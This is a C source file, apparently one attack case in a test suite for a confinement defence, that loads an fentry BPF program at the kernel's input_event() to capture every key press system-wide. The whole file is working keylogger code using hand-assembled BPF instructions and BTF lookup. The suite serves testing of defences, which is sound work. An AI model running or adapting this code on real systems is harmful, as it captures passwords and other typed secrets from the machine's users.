// SPDX-License-Identifier: Apache-2.0
/*
 * A BPF program at the entry of the kernel's input_event(), which every key passes.
 *
 * attack: bpf_fentry
 * class: process
 * when: before
 * judge: keys
 * defence: confinement
 * why: neither the kernel's grab nor lockdown stops it; bpf(2) is denied, CAP_BPF gone
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/btf.h>
#include <linux/input.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "bpf.h"
#include "file.h"
#include "report.h"

#define BTF_FILE "/sys/kernel/btf/vmlinux"

/* What follows a struct btf_type. */
static size_t tail_size(const struct btf_type *type)
{
	size_t count = BTF_INFO_VLEN(type->info);

	switch (BTF_INFO_KIND(type->info)) {
	case BTF_KIND_INT:
		return sizeof(uint32_t);
	case BTF_KIND_ARRAY:
		return sizeof(struct btf_array);
	case BTF_KIND_STRUCT:
	case BTF_KIND_UNION:
		return count * sizeof(struct btf_member);
	case BTF_KIND_ENUM:
		return count * sizeof(struct btf_enum);
	case BTF_KIND_FUNC_PROTO:
		return count * sizeof(struct btf_param);
	case BTF_KIND_VAR:
		return sizeof(struct btf_var);
	case BTF_KIND_DATASEC:
		return count * sizeof(struct btf_var_secinfo);
	case BTF_KIND_DECL_TAG:
		return sizeof(struct btf_decl_tag);
	case BTF_KIND_ENUM64:
		return count * sizeof(struct btf_enum64);
	}
	return 0;
}

static uint32_t find_function(const char *btf, const char *name)
{
	const struct btf_header *header = (const struct btf_header *)btf;
	const char *types = btf + header->hdr_len + header->type_off;
	const char *names = btf + header->hdr_len + header->str_off;
	const struct btf_type *type;
	uint32_t id = 1, at;

	for (at = 0; at < header->type_len; id++) {
		type = (const struct btf_type *)(types + at);
		if (BTF_INFO_KIND(type->info) == BTF_KIND_FUNC &&
		    !strcmp(names + type->name_off, name))
			return id;
		at += (uint32_t)(sizeof(*type) + tail_size(type));
	}
	return 0;
}

static int load(int queue, uint32_t btf_id)
{
	/* The context: dev, type, code, value, 64 bits each. */
	const struct bpf_insn insns[] = {
		BPF_LOAD(BPF_DW, BPF_REG_6, BPF_REG_1, 8),
		BPF_LOAD(BPF_DW, BPF_REG_7, BPF_REG_1, 24),
		BPF_LOAD(BPF_DW, BPF_REG_8, BPF_REG_1, 16),
		BPF_SKIP32(BPF_JNE, BPF_REG_6, EV_KEY, 9),
		BPF_SKIP32(BPF_JNE, BPF_REG_7, 1, 8),
		BPF_STORE(BPF_W, BPF_REG_10, BPF_REG_8, -8),
		BPF_STORE(BPF_W, BPF_REG_10, BPF_REG_7, -4),
		BPF_SET_MAP(BPF_REG_1, queue),
		BPF_COPY(BPF_REG_2, BPF_REG_10),
		BPF_PLUS(BPF_REG_2, -8),
		BPF_SET(BPF_REG_3, BPF_ANY),
		BPF_HELPER(BPF_FUNC_map_push_elem),
		BPF_SET(BPF_REG_0, 0),
		BPF_RETURN(),
	};
	const struct bpf_program program = {
		.type = BPF_PROG_TYPE_TRACING,
		.insns = insns,
		.count = sizeof(insns) / sizeof(*insns),
		.attach = BPF_TRACE_FENTRY,
		.btf_id = btf_id,
	};

	return bpf_load(&program);
}

static uint32_t find_input_event(void)
{
	struct stat st;
	uint32_t id = 0;
	char *btf;

	if (stat(BTF_FILE, &st))
		attack_failed(BTF_FILE ": %s", strerror(errno));
	btf = malloc((size_t)st.st_size + 1);
	if (btf && file_read(BTF_FILE, btf, (size_t)st.st_size + 1) == st.st_size)
		id = find_function(btf, "input_event");
	free(btf);
	return id;
}

int main(void)
{
	int queue, ret;

	attack_init();
	queue = bpf_queue_new(8);
	ret = queue < 0 ? queue : load(queue, find_input_event());
	if (ret >= 0)
		ret = bpf_attach(ret, NULL);
	attack_ready();
	if (ret < 0)
		attack_failed("no program at the entry of input_event: %s", strerror(-ret));
	bpf_log_keys(queue);
}
